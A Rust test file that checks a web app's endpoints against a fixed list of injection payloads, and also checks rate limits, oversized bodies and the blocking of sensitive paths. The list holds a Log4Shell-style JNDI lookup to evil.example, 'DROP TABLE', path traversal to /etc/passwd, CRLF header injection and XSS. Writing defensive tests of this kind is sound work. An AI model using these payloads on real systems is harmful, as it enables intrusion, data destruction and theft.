//! Points 23 and 24: payloads in every place, and how much one caller may ask.

use super::Visitor;
use crate::util::{TestApp, TestBed};
use portico::http::AppOptions;
use portico::service::Rate;
use std::num::NonZeroU32;

/// What attacks databases, shells, templates, paths, logs and parsers.
const PAYLOADS: [&str; 12] = [
    "' OR '1'='1",
    "\"; DROP TABLE customer; --",
    "1; SELECT pg_sleep(10)",
    "') UNION SELECT 1,2,3 --",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%00",
    "a%0d%0aset-cookie: x=1",
    "\u{202e}gnp.exe",
    "%ff%fe",
    "<script>alert(1)</script>",
];

/// A text as part of an address, unless it is encoded already.
fn encoded(payload: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'%';
    let part =
        |byte| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") };
    payload.bytes().map(part).collect()
}

on_both! {
    async fn s23_payloads_say_nothing_and_break_nothing(bed: TestBed) {
        bed.affiliate("ann").await;
        let app = TestApp::over(bed).await;
        let mut operator = Visitor::new(&app);
        operator.join().await;
        for payload in PAYLOADS.map(encoded) {
            for path in [
                format!("/dev/v1/customers/{payload}"),
                format!("/dev/v1/orders/{payload}"),
                format!("/dev/v1/orders?status={payload}&page={payload}&per_page={payload}"),
                format!("/dev/v1/customers?search={payload}&email={payload}"),
                format!("/dev/v1/webhooks/logs?event_type={payload}"),
                format!("/v1/storefront/shops/{payload}/ping"),
            ] {
                let reply = app.get(&path).await;
                assert!(!reply.status.is_server_error(), "{path}: {} {}", reply.status, reply.body);
                for word in ["sqlite", "syntax", "postgres", "panicked", "src/", "root:x"] {
                    assert!(!reply.sent.to_lowercase().contains(word), "{path}: {}", reply.sent);
                }
                assert!(!reply.headers.contains_key("set-cookie"), "{path}");
                if reply.status.is_client_error() && path.starts_with("/dev") {
                    let error = serde_json::from_str::<serde_json::Value>(&reply.sent).unwrap()["error"].clone();
                    assert!(error["code"].is_string() && error["message"].is_string(), "{path}: {error}");
                    assert_eq!(error["request_id"], reply.header("x-request-id"), "{path}");
                }
            }
            for path in ["/admin/orders?q=", "/admin/affiliates?sort=", "/orders?state=", "/login?next=", "/?ref=", "/invoice/"] {
                let reply = operator.get(&format!("{path}{payload}")).await;
                assert!(!reply.status.is_server_error(), "{path}{payload}: {}", reply.status);
                assert!(!reply.body.contains("<script>alert(1)"), "{path}{payload}");
            }
        }
        app.bed.assert_intact().await;
    }
}

#[tokio::test]
async fn s24_each_caller_has_a_share() {
    let few = NonZeroU32::new(5).unwrap();
    let options = AppOptions { rate: Rate::per_second(few, few), ..AppOptions::default() };
    let app = TestApp::with(TestBed::sqlite().await, options).await;
    let mut last = app.get("/dev/v1/me").await;
    for _ in 0..5 {
        last = app.get("/dev/v1/me").await;
    }
    last.error(429, "RATE_LIMITED");
    assert!(last.header("retry-after").parse::<u64>().unwrap() >= 1);
    let other = app.key(&app.bed.shop, "*").await;
    assert_eq!(
        app.call("GET", "/dev/v1/me", &other, &[], "").await.status,
        200,
        "a share of each key"
    );
    app.bed.clock.advance_secs(60);
    let large = "x".repeat((1 << 20) + 1);
    app.post("/dev/v1/orders", &large).await.error(413, "PAYLOAD_TOO_LARGE");
    assert_eq!(Visitor::new(&app).post("/login", &[("email", &large)]).await.status, 413);
    for path in
        ["/metrics", "/debug", "/debug/pprof", "/status", "/server-status", "/.env", "/.git/config"]
    {
        let reply = Visitor::new(&app).get(path).await;
        assert_eq!(reply.status, 404, "{path}");
    }
}
